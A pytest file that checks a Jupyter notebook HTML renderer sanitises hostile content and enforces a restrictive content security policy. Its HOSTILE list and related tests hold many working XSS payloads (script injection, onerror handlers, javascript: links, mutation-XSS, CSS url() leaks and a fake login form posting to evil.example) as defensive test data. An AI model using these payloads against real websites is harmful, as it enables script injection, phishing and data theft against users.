"""Notebooks for viewing: what they show, and what a hostile one cannot do."""

from __future__ import annotations

import base64
import time
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from gridcloud.errors import InvalidRequest
from gridcloud.jobs.viewing import POLICY, render_page

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 30).decode()
FORBIDDEN = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "base",
    "link",
    "svg",
    "math",
    "frame",
}


def notebook(*cells: dict[str, Any] | str, **metadata: Any) -> dict[str, Any]:
    """A notebook of these outputs, or of Markdown where a cell is text."""
    made = [
        {"cell_type": "markdown", "metadata": {}, "source": cell}
        if isinstance(cell, str)
        else {"cell_type": "code", "metadata": {}, "source": "1", "execution_count": 1, "outputs": [cell]}
        for cell in cells
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": made}


def data(**kinds: Any) -> dict[str, Any]:
    """An output in these kinds, `_` standing for the stroke."""
    found = {kind.replace("__", "+").replace("_", "/"): value for kind, value in kinds.items()}
    return {"output_type": "display_data", "metadata": {}, "data": found}


class Page(HTMLParser):
    """What a page holds, as a browser reads it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, text: str) -> None:
        self.text += text


def looked_at(text: str) -> Page:
    """The body of a page, of which nothing can act."""
    assert not {"script", "link", "base", "img"} & set(Page(text.partition("<body>")[0]).tags)
    page = Page(text.partition("<body>")[2])
    assert not FORBIDDEN & set(page.tags), page.tags
    for tag, name, value in page.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert name not in ("srcset", "srcdoc", "action", "formaction", "ping", "background", "id", "name"), (
            name
        )
        if name == "src":
            assert value.startswith("data:image/"), value
        if name == "href":
            assert value.startswith(("https://", "http://", "mailto:", "#")), value
        if name == "style":
            assert "position" not in value
            assert "url" not in value
            assert "z-index" not in value
    return page


def test_shown() -> None:
    table = "<table border='1'><tr><th>a</th><td style='color: red; position: fixed'>7</td></tr></table>"
    page = looked_at(
        render_page(
            notebook(
                "# Title\n\nSome **bold** [link](https://example.org/) and $x^2$",
                data(text_html=table, text_plain="no"),
                data(image_png=PNG),
                {"output_type": "stream", "name": "stdout", "text": ["a < b\n", "c"]},
                {
                    "output_type": "error",
                    "ename": "E",
                    "evalue": "v",
                    "traceback": ["\x1b[31mValueError\x1b[0m: <v>"],
                },
            ),
            title="A <b>",
        )
    )
    assert {"h1", "strong", "table", "img", "pre"} <= set(page.tags)
    for words in ("Title", "bold", "x^2", "7", "a < b\nc", "ValueError: <v>"):
        assert words in page.text
    assert ("a", "href", "https://example.org/") in page.attributes
    assert ("td", "style", "color: red;") in page.attributes
    assert ("img", "src", f"data:image/png;base64,{PNG}") in page.attributes


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/seen.png'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/png;base64,AAAA\" onerror=\"alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' ping='https://evil.example'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/a.css'>",
    "<style>@import 'https://evil.example'; body { display: none }</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Log in again</div>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<div style='width: expression(alert(1))'>x</div>",
    "<div style='background\\3a url(https://evil.example)'>x</div>",
    "</div></div></body><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<template><script>alert(1)</script></template>",
    "<p id=cookie name=forms>x</p>",
    "<İ><script>alert(1)</script>",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_html(hostile: str) -> None:
    looked_at(
        render_page(
            notebook(
                data(text_html=hostile),
                hostile,
                data(text_markdown=hostile),
                data(image_svg__xml=f"<svg xmlns='http://www.w3.org/2000/svg'>{hostile}</svg>"),
                {"output_type": "stream", "name": "stdout", "text": hostile},
                {"output_type": "error", "ename": hostile, "evalue": hostile, "traceback": [hostile]},
            ),
            title=hostile,
        )
    )


def test_hostile_in_other_places() -> None:
    attack = '"><script>alert(1)</script>'
    made = notebook(
        data(image_png=attack),
        data(image_png=base64.b64encode(b"<script>").decode()),
        data(application_javascript="alert(1)"),
        {
            **data(application_javascript="alert(1)", text_plain="a figure"),
            "metadata": {"image/png": {"width": attack}},
        },
        data(**{"application_vnd.jupyter.widget-view__json": {"model_id": attack}}),
        {"output_type": attack, "data": {}},
        {"output_type": "display_data", "data": {attack: attack}},
        {"output_type": "stream", "name": attack, "text": "x"},
        "![a](attachment:a.svg) [x](javascript:alert(1)) <javascript:alert(1)>",
        language_info={"name": attack, "pygments_lexer": attack, "codemirror_mode": attack},
        kernelspec={"name": attack, "display_name": attack, "language": attack},
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {attack: {}}}},
        title=attack,
    )
    made["cells"][0] |= {
        "id": attack,
        "metadata": {"tags": [attack], "collapsed": attack},
        "execution_count": attack,
    }
    made["cells"].append({"cell_type": "raw", "source": attack, "metadata": {"format": "text/html"}})
    page = looked_at(render_page(made))
    assert "a figure" in page.text
    assert "[not shown: application/javascript]" in page.text


def test_attached_pictures() -> None:
    made = notebook("![one](attachment:a.png) ![two](attachment:b.svg) ![three](attachment:c.png)")
    made["cells"][0]["attachments"] = {
        "a.png": {"image/png": PNG},
        "b.svg": {"image/svg+xml": "<svg onload=alert(1)>", "text/html": "<script>"},
    }
    page = looked_at(render_page(made))
    assert [value for _, name, value in page.attributes if name == "src"] == [f"data:image/png;base64,{PNG}"]


def test_policy() -> None:
    text = render_page(notebook("x"), title="</title><script>alert(1)</script>")
    [within] = [line for line in text.splitlines() if "Content-Security-Policy" in line]
    assert "default-src &#x27;none&#x27;" in within
    assert "script-src" not in within
    assert POLICY.startswith("sandbox allow-popups;")


def test_trusted_is_as_it_is() -> None:
    text = render_page(notebook(data(text_html="<script>mine()</script>")), trusted=True)
    assert "<script>mine()</script>" in text


def test_made_to_take_long() -> None:
    begin = time.process_time()
    render_page(notebook(data(text_html="<script" * 100_000), data(text_plain="x" * 3_000_000)))
    assert time.process_time() - begin < 20


@pytest.mark.parametrize(
    "wrong", [{}, {"nbformat": 3}, {"nbformat": 4, "cells": [3]}, {"nbformat": 4, "cells": 3}]
)
def test_no_notebook(wrong: dict[str, Any]) -> None:
    with pytest.raises(InvalidRequest, match="no notebook"):
        render_page(wrong)


@pytest.mark.lab
async def test_in_a_browser(tmp_path: Path) -> None:
    """Nothing of what is hostile runs, asks another address or leads elsewhere; and cells can be read."""
    from tests.browser.visit import CHROMIUM, visit

    if not CHROMIUM.exists():
        pytest.skip("needs Debian's chromium: `sudo scripts/debian-packages`")
    acted: list[str] = []
    async with visit(tmp_path) as viewer:
        viewer.page.on("request", lambda one: acted.append(one.url))
        viewer.page.on("dialog", lambda one: acted.append(one.message))
        for number, hostile in enumerate(HOSTILE):
            path = tmp_path / f"{number}.html"
            svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{hostile}</svg>"
            made = notebook(data(text_html=hostile), hostile, data(image_svg__xml=svg), "# The end")
            path.write_text(render_page(made, title=hostile))
            acted.clear()
            await viewer.page.goto(path.as_uri())
            await viewer.page.get_by_text("The end").wait_for()
            assert viewer.page.url == path.as_uri()
            assert [one for one in acted if not one.startswith(("data:image/", path.as_uri()))] == [], hostile
        assert viewer.errors == []
